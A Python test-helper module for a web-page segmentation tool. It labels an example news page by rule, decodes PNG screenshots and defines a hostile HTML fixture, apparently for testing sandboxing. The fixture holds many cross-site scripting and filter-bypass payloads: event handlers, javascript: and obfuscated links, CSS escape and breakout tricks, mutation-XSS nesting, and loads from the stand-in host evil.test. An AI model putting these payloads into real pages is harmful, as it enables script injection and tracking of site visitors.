"""Helpers for the view, editor and report tests: a rule-labelled example page, a hostile
page, reading pixels from PNG screenshots."""

from __future__ import annotations

import itertools
import struct
import zlib
from collections import Counter
from pathlib import Path

from boilerkit.blocks import build_blocks
from boilerkit.labels import DEFAULT_LABELS
from boilerkit.page import LabelledBlock, Page
from boilerkit.parse import parse_html
from boilerkit.show import LABEL_COLOURS, TINT_ALPHA

EXAMPLE = Path(__file__).resolve().parents[1] / "examples" / "news-page.html"


def guideline_label(element) -> str:
    """The example page's label by the guideline's regions (GUIDELINE.md §6), from the markup."""
    for node in itertools.chain((element,), element.iterancestors()):
        classes = (node.get("class") or "").split()
        if node.get("id") == "comments":
            return "comment"
        if node.tag == "aside" or node.get("id") == "check-also-box":
            return "teaser"
        if (node.tag in ("nav", "footer") or node.get("id") in ("theme-header", "go-to-top")
                or "share-buttons" in classes):
            return "navigation"
    return "article"


def rule_page(root, label_of=guideline_label) -> Page:
    """A classified Page of ``root`` whose labels come from a rule instead of a model."""
    blocks = []
    for block in build_blocks(root):
        label = label_of(block.element)
        probabilities = {name: (0.85 if name == label else 0.05) for name in DEFAULT_LABELS}
        blocks.append(LabelledBlock(block, label, probabilities))
    return Page(blocks=blocks)


def example_root():
    return parse_html(EXAMPLE.read_bytes())


def tint(label: str) -> tuple[int, int, int]:
    """A label's tint over a white page, as the view paints it."""
    return tuple(round(255 * (1 - TINT_ALPHA) + c * TINT_ALPHA) for c in LABEL_COLOURS[label])


def nearest_label(colour: tuple[int, int, int]) -> tuple[str, float]:
    """The standard label whose tint is closest to ``colour``, and the distance."""
    distances = {label: sum((a - b) ** 2 for a, b in zip(colour, tint(label))) ** 0.5
                 for label in LABEL_COLOURS}
    label = min(distances, key=distances.get)
    return label, distances[label]


def write_report_fixture(tmp_path: Path, model_path: Path, labelled_dir: Path) -> tuple[Path, Path]:
    """``boilerkit evaluate --report`` on the synthetic pages plus the example page labelled by
    the guideline, which the tiny test model gets partly wrong; returns (report, views folder)."""
    import shutil

    from boilerkit.annotate import write_labels
    from boilerkit.cli import main

    data = tmp_path / "data"
    shutil.copytree(labelled_dir, data)
    root = example_root()
    labels = [guideline_label(block.element) for block in build_blocks(root)]
    (data / "madzine.example").mkdir()
    (data / "madzine.example" / "news.html").write_bytes(write_labels(EXAMPLE.read_bytes(),
                                                                      labels)[0])
    report = tmp_path / "out" / "report.html"
    assert main(["evaluate", "-q", "--model", str(model_path), str(data), "--report", str(report),
                 "--worst", "3", "--bootstrap", "200"]) == 0
    return report, report.with_name("report_files")


# -- PNG ---------------------------------------------------------------------------


def png_pixels(data: bytes) -> tuple[int, int, list[tuple[int, int, int]]]:
    """``(width, height, RGB pixels row by row)`` of an 8-bit RGB(A) non-interlaced PNG."""
    assert data[:8] == b"\x89PNG\r\n\x1a\n", "not a PNG"
    position, idat = 8, b""
    width = height = channels = 0
    while position < len(data):
        length, kind = struct.unpack(">I4s", data[position:position + 8])
        chunk = data[position + 8:position + 8 + length]
        if kind == b"IHDR":
            width, height, depth, colour_type, _, _, interlace = struct.unpack(">IIBBBBB", chunk)
            assert depth == 8 and interlace == 0 and colour_type in (2, 6), "unsupported PNG"
            channels = 3 if colour_type == 2 else 4
        elif kind == b"IDAT":
            idat += chunk
        position += 12 + length
    raw = zlib.decompress(idat)
    stride = width * channels
    rows: list[bytearray] = []
    previous = bytearray(stride)
    for y in range(height):
        start = y * (stride + 1)
        kind, line = raw[start], bytearray(raw[start + 1:start + 1 + stride])
        for x in range(stride):
            left = line[x - channels] if x >= channels else 0
            up = previous[x]
            upper_left = previous[x - channels] if x >= channels else 0
            if kind == 1:
                line[x] = (line[x] + left) & 255
            elif kind == 2:
                line[x] = (line[x] + up) & 255
            elif kind == 3:
                line[x] = (line[x] + (left + up) // 2) & 255
            elif kind == 4:
                p = left + up - upper_left
                pa, pb, pc = abs(p - left), abs(p - up), abs(p - upper_left)
                predictor = left if pa <= pb and pa <= pc else (up if pb <= pc else upper_left)
                line[x] = (line[x] + predictor) & 255
        rows.append(line)
        previous = line
    pixels = [tuple(row[x * channels:x * channels + 3]) for row in rows for x in range(width)]
    return width, height, pixels


def dominant_colour(png: bytes) -> tuple[int, int, int]:
    """The most common colour of a screenshot: a block's tint, not its text or outline."""
    _, _, pixels = png_pixels(png)
    return Counter(pixels).most_common(1)[0][0]


# -- a page that tries everything ---------------------------------------------------------

#: Each attack sets ``window.__pwned_<name>`` or fetches from evil.test (or a relative URL).
HOSTILE_HTML = """<!DOCTYPE html>
<html><head><title>hostile</title>
<meta http-equiv="refresh" content="1; url=http://evil.test/refresh">
<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">
<base href="http://evil.test/">
<link rel="stylesheet" href="http://evil.test/style.css">
<link rel="stylesheet" href="relative.css">
<link rel="preload" href="http://evil.test/preload.js" as="script">
<link rel="prefetch" href="http://evil.test/prefetch">
<link rel="icon" href="http://evil.test/favicon.ico">
<script>window.__pwned_script = 1; document.title = "pwned";</script>
<script src="http://evil.test/external.js"></script>
<style>
@import url("http://evil.test/import.css");
@import "http://evil.test/import2.css";
@font-face { font-family: evil; src: url(http://evil.test/font.woff); }
body { background: #fff url('http://evil.test/body.png'); font-family: evil, sans-serif; }
.escaped { background-image: u\\72l(http://evil.test/escaped.png); }
.set { background-image: image-set("http://evil.test/set.png" 1x); }
.breakout { content: "\\3c/style\\3e\\3cscript\\3ewindow.__pwned_cssbreakout=1\\3c/script\\3e"; }
</style>
</head>
<body onload="window.__pwned_onload = 1">
<h1 id="headline">A hostile page</h1>
<p id="intro">This page tries to run code and to load things from elsewhere, in every way.</p>
<img src="x" onerror="window.__pwned_onerror = 1" alt="broken">
<img src="http://evil.test/tracker.gif" alt="tracker">
<img src="tracker.gif" alt="relative tracker">
<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
     srcset="http://evil.test/srcset.png 2x" alt="srcset">
<picture><source srcset="http://evil.test/picture.png"><img alt="picture"></picture>
<video poster="http://evil.test/poster.png" src="http://evil.test/video.mp4" autoplay muted></video>
<audio src="http://evil.test/audio.mp3" autoplay></audio>
<video><source src="http://evil.test/source.mp4" onerror="window.__pwned_sourceerror = 1"></video>
<input type="image" src="http://evil.test/input.png" alt="go">
<table background="http://evil.test/table.png"><tr><td>cell text</td></tr></table>
<div style="background-image: url(http://evil.test/inline.png)">inline style</div>
<div class="escaped">escaped url</div><div class="set">image set</div>
<div style="background: u\\rl(http://evil.test/inline-escaped.png)">inline escaped</div>
<p><a id="jslink" href="javascript:window.__pwned_jsurl = 1">a javascript: link</a>
<a id="jslink2" href=" jav&#x09;ascript:window.__pwned_jsurl2 = 1">an obfuscated one</a>
<a id="datalink" href="data:text/html,<script>alert(1)</script>">a data: link</a>
<a id="pinglink" href="#intro" ping="http://evil.test/ping">a ping link</a></p>
<form id="form" action="http://evil.test/submit" method="post"><input name="q" value="x">
<button id="submit" type="submit">Send</button>
<button id="formaction" formaction="javascript:window.__pwned_formaction = 1">Act</button></form>
<details open ontoggle="window.__pwned_toggle = 1"><summary>details</summary>more</details>
<input autofocus onfocus="window.__pwned_focus = 1" value="focus">
<iframe src="http://evil.test/frame"></iframe>
<iframe srcdoc="<script>parent.__pwned_srcdoc = 1</script>"></iframe>
<object data="http://evil.test/object.swf"></object>
<embed src="http://evil.test/embed.swf">
<svg width="200" height="60" onload="window.__pwned_svgload = 1">
  <script>window.__pwned_svgscript = 1</script>
  <a id="svglink" xlink:href="javascript:window.__pwned_svglink = 1"><text x="5" y="15">svg link</text></a>
  <a id="svganim" href="#intro"><animate attributeName="href" values="javascript:window.__pwned_animate = 1"/>
    <text x="5" y="35">animated link</text></a>
  <image href="http://evil.test/svgimage.png" width="10" height="10"/>
  <use href="http://evil.test/sprite.svg#icon"/>
  <style><img src="x" onerror="window.__pwned_svgstyle = 1"></style>
</svg>
<math><mtext><table><mglyph><style><img src="x" onerror="window.__pwned_mathstyle = 1"></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=window.__pwned_noscript=1>"></p></noscript>
<noembed><img title="</noembed><img src=x onerror=window.__pwned_noembed=1>"></noembed>
<p id="outro">The end of the hostile page.</p>
</body></html>
"""
